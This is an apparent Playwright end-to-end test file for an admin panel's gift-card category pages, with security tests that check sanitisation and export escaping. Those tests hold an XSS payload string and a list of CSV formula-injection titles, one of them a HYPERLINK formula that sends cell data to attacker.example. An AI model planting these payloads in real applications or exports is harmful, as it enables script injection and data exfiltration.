/**
 * Categories: create with uploads and rich texts, see the tile, edit, view, disable,
 * delete; the editor account without delete; an XSS payload that never runs on the view.
 */
import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { EDITOR, ADMIN } from './accounts';
import { apiLogin } from './api';
import enCommon from '../../src/i18n/en/common';
import { expect, isolatedTest as test } from './fixtures';
import { goInApp } from './navigation';
import { CAT, CAT_FIELDS, CategoryFormPage, CategoryListPage } from './pages/CategoryPages';
import { DashboardPage } from './pages/DashboardPage';
import { LoginPage } from './pages/LoginPage';
import { chooseOption } from './pages/select';
import { RICH_TEXT_EDITOR } from './pages/fields';

/** The list, opened from the dashboard in the app as the menu link does (no second cold load). */
async function openFromDashboard(list: CategoryListPage): Promise<void> {
  await goInApp(list.page, '/admin/category');
  await list.expectShown();
}

test('an admin creates, sees, edits, views, disables and deletes a category', async ({ page }) => {
  test.setTimeout(120_000);
  await new LoginPage(page).goto();
  await new LoginPage(page).login(ADMIN);
  await new DashboardPage(page).expectShown();
  const list = new CategoryListPage(page);
  await openFromDashboard(list);

  await page.getByRole('link', { name: CAT.list.add }).click();
  await expect(page).toHaveURL(/\/admin\/add\/category$/);
  await expect(page.getByRole('heading', { level: 1, name: CAT.form.create })).toBeVisible();

  // Every required field, empty.
  await page.getByRole('button', { name: CAT.form.submit }).click();
  for (const message of [
    CAT.validation.title_required,
    CAT.validation.logo_required,
    CAT.validation.banner_required,
    CAT.validation.category_required,
    CAT.validation.short_desc_required,
    CAT.validation.description_required,
    CAT.validation.redeem_required,
  ]) {
    await expect(page.getByText(message, { exact: true }).first()).toBeVisible();
  }

  const form = new CategoryFormPage(page);
  await page.getByLabel(CAT_FIELDS.sTitle).fill('E2E Arcade Card');
  await chooseOption(page, CAT_FIELDS.sCategory, CAT.kinds.Gaming);
  // A file that is not an image is refused before any upload.
  await page
    .getByTestId('sLogo-file')
    .setInputFiles({ name: 'a.txt', mimeType: 'text/plain', buffer: Buffer.from('x') });
  await expect(page.getByText(CAT.validation.image_invalid)).toBeVisible();
  await form.upload('sLogo');
  await form.upload('sBanner');
  await form.typeRichText(0, 'Arcade credit by email.');
  await form.editor(1).click();
  // The description's own toolbar (one per editor).
  await page.getByRole('button', { name: 'Bold' }).nth(1).click();
  await form.editor(1).pressSequentially('Works on every machine.');
  await form.typeRichText(2, 'Enter the code at the counter.');
  await page.getByRole('button', { name: CAT.form.submit }).click();
  await expect(page.getByText(CAT.form.created)).toBeVisible({ timeout: 20_000 });
  await expect(page).toHaveURL(/\/admin\/category(\?.*)?$/, { timeout: 15_000 });

  // In the list, with its tile.
  await list.search('E2E Arcade');
  const row = list.row('E2E Arcade Card');
  await expect(row).toHaveCount(1);
  const tile = row.getByTestId('category-tile');
  await expect(tile).toContainText(CAT.list.quick_delivery);
  const images = tile.locator('img');
  await expect(images).toHaveCount(2);
  for (const image of await images.all()) {
    await expect.poll(() => image.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBeGreaterThan(0);
  }
  const box = await tile.boundingBox();
  expect(box?.height).toBe(300);
  expect(box?.width).toBeLessThanOrEqual(220);

  // Edit.
  await list.action(enCommon.edit, 'E2E Arcade Card').click();
  await expect(page.getByRole('heading', { level: 1, name: CAT.form.edit })).toBeVisible();
  await expect(form.editor(1).locator('strong')).toHaveText('Works on every machine.');
  await page.getByLabel(CAT_FIELDS.sTitle).fill('E2E Arcade Card Plus');
  await page.getByRole('button', { name: CAT.form.update }).click();
  await expect(page.getByText(CAT.form.updated)).toBeVisible();
  await expect(page).toHaveURL(/\/admin\/category(\?.*)?$/, { timeout: 15_000 });

  // View, read-only with the rich texts.
  await list.search('E2E Arcade');
  await list.action(enCommon.view, 'E2E Arcade Card Plus').click();
  await expect(page.getByRole('heading', { level: 1, name: CAT.form.view })).toBeVisible();
  await expect(page.getByText('E2E Arcade Card Plus')).toBeVisible();
  await expect(page.locator('strong', { hasText: 'Works on every machine.' })).toBeVisible();
  await expect(page.locator(RICH_TEXT_EDITOR)).toHaveCount(0);
  await expect(page.getByRole('button', { name: CAT.form.update })).toHaveCount(0);

  // Disable.
  await page.goBack();
  await list.search('E2E Arcade');
  const toggle = list.toggle('E2E Arcade Card Plus');
  await expect(toggle).toBeChecked();
  await toggle.click();
  await expect(page.getByText('Category status changed successfully.')).toBeVisible();
  await expect(toggle).not.toBeChecked();

  // Delete.
  await list.action(enCommon.delete.button, 'E2E Arcade Card Plus').click();
  await expect(page.getByText(enCommon.delete.title)).toBeVisible();
  await page.getByRole('button', { name: enCommon.delete.confirm }).click();
  await expect(page.getByText(enCommon.delete.done, { exact: true })).toBeVisible();
  await expect(list.row('E2E Arcade Card Plus')).toHaveCount(0);
  await expect(page.getByText(CAT.list.empty)).toBeVisible();
});

test('the editor creates and edits categories but has no delete', async ({ page }) => {
  test.setTimeout(120_000);
  await new LoginPage(page).goto();
  await new LoginPage(page).login(EDITOR);
  const list = new CategoryListPage(page);
  await list.expectShown();
  await expect(page.getByRole('button', { name: new RegExp(`^${enCommon.delete.button}:`) })).toHaveCount(0);
  await expect(page.getByRole('link', { name: /^View: / }).first()).toBeVisible();

  await list.action(enCommon.edit, 'Amazon Gift Card').click();
  await expect(page.getByRole('heading', { level: 1, name: CAT.form.edit })).toBeVisible();
  await page.getByLabel(CAT_FIELDS.sTitle).fill('Amazon Gift Card EU');
  await page.getByRole('button', { name: CAT.form.update }).click();
  await expect(page).toHaveURL(/\/admin\/category(\?.*)?$/, { timeout: 15_000 });
  await expect(list.row('Amazon Gift Card EU')).toHaveCount(1);

  await page.getByRole('link', { name: CAT.list.add }).click();
  await expect(page.getByRole('heading', { level: 1, name: CAT.form.create })).toBeVisible();
  const form = new CategoryFormPage(page);
  await page.getByLabel(CAT_FIELDS.sTitle).fill('Editor Card');
  await chooseOption(page, CAT_FIELDS.sCategory, CAT.kinds.Shopping);
  await form.upload('sLogo');
  await form.upload('sBanner');
  await form.typeRichText(0, 'Short.');
  await form.typeRichText(1, 'Long.');
  await form.typeRichText(2, 'Redeem.');
  await page.getByRole('button', { name: CAT.form.submit }).click();
  await expect(page).toHaveURL(/\/admin\/category(\?.*)?$/, { timeout: 15_000 });
  await list.search('Editor Card');
  await expect(list.row('Editor Card')).toHaveCount(1);
});

test('an XSS payload saved in a description does not run on view', async ({ page, request }) => {
  const token = await apiLogin(request, ADMIN);
  const payload =
    '<p>Safe text</p><img src=x onerror="window.__xss=1"><script>window.__xss=2</script>' +
    '<p><a href="javascript:window.__xss=3">click me</a></p><p onmouseover="window.__xss=4">hover</p>';
  const created = await request.post('/api/v1/admin/categories', {
    headers: { Authorization: token },
    data: {
      sTitle: 'XSS Card',
      sCategory: 'Gaming',
      sLogo: 'categoryimages/amazon-gift-card-logo.svg',
      sBanner: 'categoryimages/amazon-gift-card-banner.svg',
      sShortDesc: payload,
      sDescription: payload,
      sRedeem: payload,
    },
  });
  expect(created.status()).toBe(200);
  const id = ((await created.json()) as { data: { _id: string } }).data._id;

  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await new LoginPage(page).goto();
  await new LoginPage(page).login(ADMIN);
  await new DashboardPage(page).expectShown();
  // In the app, as a link does; the edit page below is typed in (a cold load).
  await goInApp(page, `/admin/category/${id}`);
  await expect(page.getByRole('heading', { level: 1, name: CAT.form.view })).toBeVisible();
  await expect(page.getByText('Safe text').first()).toBeVisible();
  const link = page.getByText('click me').first();
  await expect(link).toBeVisible();
  await link.click();
  await page.getByText('hover').first().hover();
  expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
  expect(dialogs).toEqual([]);
  await expect(
    page.locator('main script, main [onerror], main [onmouseover], main a[href^="javascript"]'),
  ).toHaveCount(0);
  // Also the editor shows the sanitized text.
  await page.goto(`/admin/category/${id}/edit`);
  await expect(page.locator(RICH_TEXT_EDITOR).first()).toContainText('Safe text');
  expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
});

/** Signs in as the admin, exports the category list and answers the CSV's text (no BOM). */
async function exportCategoriesCsv(page: Page): Promise<string> {
  await new LoginPage(page).goto();
  await new LoginPage(page).login(ADMIN);
  await new DashboardPage(page).expectShown();
  await openFromDashboard(new CategoryListPage(page));
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: enCommon.export }).click(),
  ]);
  return readFileSync(await download.path(), 'utf8').replace(/^\uFEFF/, '');
}

test("the CSV export's header row reads like the list, not like the API", async ({ page }) => {
  const header = (await exportCategoriesCsv(page)).split('\n')[0].trim();
  expect(header.split(',')).toEqual([
    'ID',
    CAT_FIELDS.sTitle,
    CAT_FIELDS.sCategory,
    CAT_FIELDS.eStatus,
    CAT_FIELDS.nExchangeFees,
    CAT_FIELDS.sLogo,
    CAT_FIELDS.sBanner,
    CAT_FIELDS.sVideo,
    CAT_FIELDS.sShortDesc,
    CAT_FIELDS.sDescription,
    CAT_FIELDS.sRedeem,
    CAT_FIELDS.dCreatedAt,
  ]);
});

// CSV formula injection (docs/security.md): a cell starting with =, +, - or @ is run by a spreadsheet.
const FORMULAS = [
  '=HYPERLINK("https://attacker.example/?d="&A3,"Open")',
  '+SUM(1+1)*cmd',
  '-2+3+cmd',
  '@SUM(1+1)',
];

test('a CSV export holds no formula: hostile titles come out as text @security', async ({
  page,
  request,
}) => {
  const token = await apiLogin(request, ADMIN);
  for (const [index, title] of FORMULAS.entries()) {
    const created = await request.post('/api/v1/admin/categories', {
      headers: { Authorization: token },
      data: {
        sTitle: title,
        sCategory: 'Gaming',
        sLogo: 'categoryimages/amazon-gift-card-logo.svg',
        sBanner: 'categoryimages/amazon-gift-card-banner.svg',
        sShortDesc: `<p>formula ${index}</p>`,
        sDescription: '<p>d</p>',
        sRedeem: '<p>r</p>',
      },
    });
    expect(created.status(), await created.text()).toBe(200);
  }
  const csv = await exportCategoriesCsv(page);
  // A cell starts after a comma or a line break, maybe inside its opening quote.
  const formulaCells = csv.match(/(^|,|\n)"?[=+\-@\t\r]/g) ?? [];
  const asText = FORMULAS.filter((title) => csv.includes(`'${title.replace(/"/g, '""')}`));
  console.log(
    `[security] exports: ${FORMULAS.length} formula titles exported, ${asText.length} as text, ${formulaCells.length} formula cells`,
  );
  expect(formulaCells).toEqual([]);
  expect(asText).toEqual(FORMULAS);
});
